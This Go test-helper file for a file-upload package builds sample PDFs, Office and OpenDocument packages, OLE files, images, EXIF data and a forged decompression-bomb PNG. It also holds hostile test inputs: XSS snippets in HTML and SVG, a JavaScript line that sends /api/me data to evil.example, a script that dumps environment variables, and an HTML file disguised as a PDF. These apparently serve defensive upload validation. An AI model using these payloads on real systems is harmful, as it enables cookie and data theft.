package uploads

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/gif"
	"image/jpeg"
	"image/png"
	"io"
	"strings"
	"testing"
)

// Every test file is built here from code, so the tests carry no binary
// fixtures whose content nobody can review.

// pdfFile is a minimal but well-formed one-page PDF, with a correct xref
// table so that real readers open it too.
func pdfFile(t testing.TB) []byte {
	t.Helper()
	objs := []string{
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
	}
	var b bytes.Buffer
	b.WriteString("%PDF-1.4\n")
	offs := make([]int, len(objs))
	for i, o := range objs {
		offs[i] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
	for _, off := range offs {
		fmt.Fprintf(&b, "%010d 00000 n \n", off)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, xref)
	return b.Bytes()
}

// ooxmlFile builds an Office Open XML package the way Office lays it out:
// [Content_Types].xml first, then _rels/, then the part folder (ppt/,
// word/ or xl/), which is what mimetype looks for. pad makes the first
// entry that many bytes longer, stored uncompressed, to push the folder
// past the 4 KB mimetype reads.
func ooxmlFile(t testing.TB, folder, mainPart string, pad int) []byte {
	return ooxmlWith(t, folder, mainPart, pad, "", nil)
}

// ooxmlWith is ooxmlFile with an extra Override in [Content_Types].xml
// and extra entries, e.g. a macro-enabled main part or a vbaProject.bin.
func ooxmlWith(t testing.TB, folder, mainPart string, pad int, override string, extra map[string]string) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	add := func(name, body string, method uint16) {
		f, err := w.CreateHeader(&zip.FileHeader{Name: name, Method: method})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(f, body); err != nil {
			t.Fatal(err)
		}
	}
	types := `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
		`<Default Extension="xml" ContentType="application/xml"/>` + override + `</Types>` + strings.Repeat(" ", pad)
	add("[Content_Types].xml", types, zip.Store)
	add("_rels/.rels", `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>`, zip.Deflate)
	add(folder+mainPart, `<?xml version="1.0"?><root/>`, zip.Deflate)
	for name, body := range extra {
		add(name, body, zip.Deflate)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// odpFile builds an OpenDocument presentation: the spec requires a first,
// uncompressed entry "mimetype" holding the type, which is all mimetype
// (and LibreOffice's own sniffing) checks.
func odpFile(t testing.TB, extra ...string) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	f, err := w.CreateHeader(&zip.FileHeader{Name: "mimetype", Method: zip.Store})
	if err != nil {
		t.Fatal(err)
	}
	io.WriteString(f, TypeODP)
	f, err = w.Create("content.xml")
	if err != nil {
		t.Fatal(err)
	}
	io.WriteString(f, `<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>`)
	for _, name := range extra {
		if f, err = w.Create(name); err != nil {
			t.Fatal(err)
		}
		io.WriteString(f, "<script/>")
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// plainZip is a zip that is no document at all.
func plainZip(t testing.TB) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	f, _ := w.Create("notes.txt")
	io.WriteString(f, "hello")
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

var oleMagic = []byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1}

// cfbFile builds a minimal Compound File (OLE2, version 3): header, one FAT
// sector and one directory sector holding the root entry and one empty
// stream. The stream name is what tells formats apart: "PowerPoint
// Document" is a .ppt, "WordDocument" a .doc. An empty stream name gives a
// compound file with no stream at all.
func cfbFile(stream string) []byte {
	const (
		sector     = 512
		endOfChain = 0xFFFFFFFE
		freeSect   = 0xFFFFFFFF
		fatSect    = 0xFFFFFFFD
		noStream   = 0xFFFFFFFF
	)
	b := make([]byte, 3*sector)
	le := binary.LittleEndian
	copy(b, oleMagic)
	le.PutUint16(b[24:], 0x003E) // minor version
	le.PutUint16(b[26:], 3)      // major version: 512-byte sectors
	le.PutUint16(b[28:], 0xFFFE) // byte order mark
	le.PutUint16(b[30:], 9)      // sector shift: 2^9
	le.PutUint16(b[32:], 6)      // mini sector shift: 2^6
	le.PutUint32(b[44:], 1)      // FAT sectors
	le.PutUint32(b[48:], 1)      // first directory sector
	le.PutUint32(b[56:], 4096)   // mini stream cutoff
	le.PutUint32(b[60:], endOfChain)
	le.PutUint32(b[68:], endOfChain)
	for i := range 109 { // DIFAT in the header: FAT is sector 0
		v := uint32(freeSect)
		if i == 0 {
			v = 0
		}
		le.PutUint32(b[76+4*i:], v)
	}
	fat := b[sector:]
	le.PutUint32(fat[0:], fatSect)
	le.PutUint32(fat[4:], endOfChain)
	for i := 2; i < sector/4; i++ {
		le.PutUint32(fat[4*i:], freeSect)
	}
	dir := b[2*sector:]
	entry := func(i int, name string, typ byte, child uint32) {
		e := dir[i*128:]
		for j, r := range name {
			le.PutUint16(e[2*j:], uint16(r))
		}
		if name != "" {
			le.PutUint16(e[64:], uint16(2*len(name)+2))
		}
		e[66] = typ
		e[67] = 1 // black
		le.PutUint32(e[68:], noStream)
		le.PutUint32(e[72:], noStream)
		le.PutUint32(e[76:], child)
		le.PutUint32(e[116:], endOfChain)
	}
	child := uint32(noStream)
	if stream != "" {
		child = 1
	}
	entry(0, "Root Entry", 5, child)
	if stream != "" {
		entry(1, stream, 2, noStream)
	} else {
		entry(1, "", 0, noStream)
	}
	entry(2, "", 0, noStream)
	entry(3, "", 0, noStream)
	return b
}

// twoColours is a w×h image: red on the left half, blue on the right, so
// crops and rotations can be seen in the output.
func twoColours(w, h int) *image.RGBA {
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	for y := range h {
		for x := range w {
			c := color.RGBA{220, 20, 20, 255}
			if x >= w/2 {
				c = color.RGBA{20, 20, 220, 255}
			}
			img.SetRGBA(x, y, c)
		}
	}
	return img
}

func pngFile(t testing.TB, img image.Image) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func jpegFile(t testing.TB, img image.Image) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := jpeg.Encode(&b, img, &jpeg.Options{Quality: 90}); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func gifFile(t testing.TB) []byte {
	t.Helper()
	var b bytes.Buffer
	img := image.NewPaletted(image.Rect(0, 0, 4, 4), color.Palette{color.Black, color.White})
	if err := gif.Encode(&b, img, nil); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// gpsSecret stands for the location a phone writes into EXIF.
const gpsSecret = "GPS 48.8584N 2.2945E secret"

// withExif inserts, right after SOI, an APP1 "Exif" segment as a camera
// writes it: big-endian TIFF, IFD0 with the orientation and an
// ImageDescription holding gpsSecret.
func withExif(t testing.TB, jpg []byte, orientation uint16) []byte {
	t.Helper()
	if !bytes.HasPrefix(jpg, []byte{0xFF, 0xD8}) {
		t.Fatal("not a JPEG")
	}
	be := binary.BigEndian
	desc := gpsSecret + "\x00"
	var tiff bytes.Buffer
	tiff.WriteString("MM\x00\x2A")
	binary.Write(&tiff, be, uint32(8)) // IFD0 right after the header
	binary.Write(&tiff, be, uint16(2)) // two entries
	// Orientation: SHORT, count 1, value in the first two bytes.
	binary.Write(&tiff, be, []uint16{0x0112, 3})
	binary.Write(&tiff, be, uint32(1))
	binary.Write(&tiff, be, []uint16{orientation, 0})
	// ImageDescription: ASCII, stored after the IFD.
	binary.Write(&tiff, be, []uint16{0x010E, 2})
	binary.Write(&tiff, be, uint32(len(desc)))
	binary.Write(&tiff, be, uint32(8+2+2*12+4))
	binary.Write(&tiff, be, uint32(0)) // no next IFD
	tiff.WriteString(desc)
	seg := append([]byte("Exif\x00\x00"), tiff.Bytes()...)
	var out bytes.Buffer
	out.Write(jpg[:2])
	out.Write([]byte{0xFF, 0xE1})
	binary.Write(&out, be, uint16(len(seg)+2))
	out.Write(seg)
	out.Write(jpg[2:])
	return out.Bytes()
}

// pngWithSize rewrites the IHDR of a valid PNG to declare w×h (fixing the
// CRC), the cheap way to make a decompression bomb's header.
func pngWithSize(t testing.TB, w, h uint32) []byte {
	t.Helper()
	b := pngFile(t, image.NewGray(image.Rect(0, 0, 1, 1)))
	// Signature (8) then the IHDR chunk: length (4), "IHDR", data (13), CRC.
	ihdr := b[12 : 12+4+13]
	if string(ihdr[:4]) != "IHDR" {
		t.Fatal("unexpected PNG layout")
	}
	binary.BigEndian.PutUint32(ihdr[4:], w)
	binary.BigEndian.PutUint32(ihdr[8:], h)
	binary.BigEndian.PutUint32(b[12+4+13:], crc32.ChecksumIEEE(ihdr))
	return b
}

// webpLossless is a 6×4 solid red lossless WebP (VP8L), 32 bytes, made with
// `cwebp -lossless -z 9 -metadata none` from a PNG; x/image has no WebP
// encoder, so it is embedded. TestWebPFixture checks that it decodes.
var webpLossless = []byte{
	0x52, 0x49, 0x46, 0x46, 0x18, 0x00, 0x00, 0x00, 0x57, 0x45, 0x42, 0x50,
	0x56, 0x50, 0x38, 0x4c, 0x0b, 0x00, 0x00, 0x00, 0x2f, 0x05, 0xc0, 0x00,
	0x00, 0x45, 0x3d, 0xaa, 0x1a, 0xfd, 0x0f, 0x00,
}

const (
	htmlPage = "<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
	svgImage = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="10" height="10"/></svg>`
	jsFile   = "fetch('/api/me').then(r => r.text()).then(t => navigator.sendBeacon('//evil.example', t));\n"
	jsNode   = "#!/usr/bin/env node\nconsole.log(process.env)\n"
	// htmlPDF hides "%PDF-" in a comment, which is enough for mimetype,
	// since PDF readers accept the header anywhere in the first KB.
	htmlPDF = "<html><!-- %PDF-1.4 --><script>alert(1)</script></html>"
)

// failingReader returns data, then err instead of io.EOF, like a multipart
// body whose client went away.
type failingReader struct {
	data []byte
	err  error
}

func (f *failingReader) Read(p []byte) (int, error) {
	if len(f.data) == 0 {
		return 0, f.err
	}
	n := copy(p, f.data)
	f.data = f.data[n:]
	return n, nil
}
